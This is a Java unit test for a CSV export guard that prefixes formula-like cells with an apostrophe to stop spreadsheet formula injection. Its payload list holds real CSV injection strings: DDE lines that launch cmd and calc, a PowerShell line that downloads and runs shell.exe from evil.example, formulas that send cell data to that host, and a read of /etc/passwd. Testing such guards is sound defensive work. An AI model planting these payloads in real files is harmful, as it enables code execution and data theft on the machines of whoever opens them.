package dev.evenhand.engine.report.csv;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class FormulaGuardTest {
  /** What goes round as payloads of CSV injection, without their beginning. */
  private static final List<String> PAYLOADS =
      List.of(
          "1+1",
          "SUM(1+1)*cmd|' /C calc'!A0",
          "cmd|' /C calc'!A0",
          "cmd|'/C powershell IEX(wget evil.example/shell.exe)'!A0",
          "rundll32|'URL.dll,OpenURL calc.exe'!A",
          "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
          "DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
          "HYPERLINK(\"https://evil.example?x=\"&A1,\"Click\")",
          "WEBSERVICE(\"https://evil.example/\"&A1)",
          "IMPORTXML(CONCAT(\"https://evil.example?v=\", A2:E2), \"//a\")",
          "IMPORTDATA(\"https://evil.example\")",
          "IMAGE(\"https://evil.example\")",
          "'file:///etc/passwd'#$passwd.A1",
          "2+5+cmd|' /C calc'!A0",
          "A1",
          "");

  private static final List<String> BEGINNINGS =
      List.of(
          "=", "+", "-", "@", "\t=", "\r=", "\n=", "\r\n=", " =", "  +", "\u00A0=", "\u200B=",
          "\uFEFF=", "\u202E=", "\u0000=", "\u2003@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20");

  static Stream<String> formulas() {
    return BEGINNINGS.stream().flatMap(sign -> PAYLOADS.stream().map(sign::concat));
  }

  @ParameterizedTest
  @MethodSource("formulas")
  void textThatBeginsAsFormulasDo_getsAnApostrophe(String formula) {
    assertThat(FormulaGuard.guarded(formula)).isEqualTo("'" + formula);
  }

  @ParameterizedTest
  @ValueSource(strings = {"\tx", "\rx", "\nx", "-1-1", "+1 555 123", "- none -", "-1%", "=1", "+"})
  void textThatIsNoPlainNumber_getsAnApostrophe(String text) {
    assertThat(FormulaGuard.guarded(text)).isEqualTo("'" + text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "-1",
        "+1",
        "-1.5",
        "-1,5",
        "+2.5e-7",
        "-1E9",
        "0",
        "",
        "ana",
        "a=b",
        "a-b",
        "a@b.example",
        "'=1",
        "\"=1",
        "yes; no",
        "first\nsecond",
        "1 - 2",
        "#1",
        "10%"
      })
  void numbersAndOtherText_stayAsTheyAre(String text) {
    assertThat(FormulaGuard.guarded(text)).isEqualTo(text);
  }

  @ParameterizedTest
  @CsvSource(
      quoteCharacter = '~',
      delimiter = '>',
      value = {
        "ana;=1+1>ana;'=1+1",
        "ana; =1+1>ana; '=1+1",
        "ana;\"=1+1>ana;\"'=1+1",
        ";=cmd|' /C calc'!A0>;'=cmd|' /C calc'!A0",
        "=1;=2;-x>'=1;'=2;'-x",
        "~ana\n=1+1~>~ana\n'=1+1~",
        "~ana\r\n@SUM(A1)~>~ana\r\n'@SUM(A1)~"
      })
  void whereAnotherDelimiterWouldBeginACell_aFormulaGetsAnApostrophe(String text, String safe) {
    assertThat(FormulaGuard.guarded(text)).isEqualTo(safe);
  }

  @ParameterizedTest
  @ValueSource(strings = {"\u2028", "\u2029", "\u0085", "\u000B", "\f"})
  void lineEndsThatCsvDoesNotKnow_areBlanks(String end) {
    assertThat(FormulaGuard.guarded("a" + end + "b")).isEqualTo("a b");
    assertThat(FormulaGuard.guarded(end + "=1")).isEqualTo("' =1");
  }
}
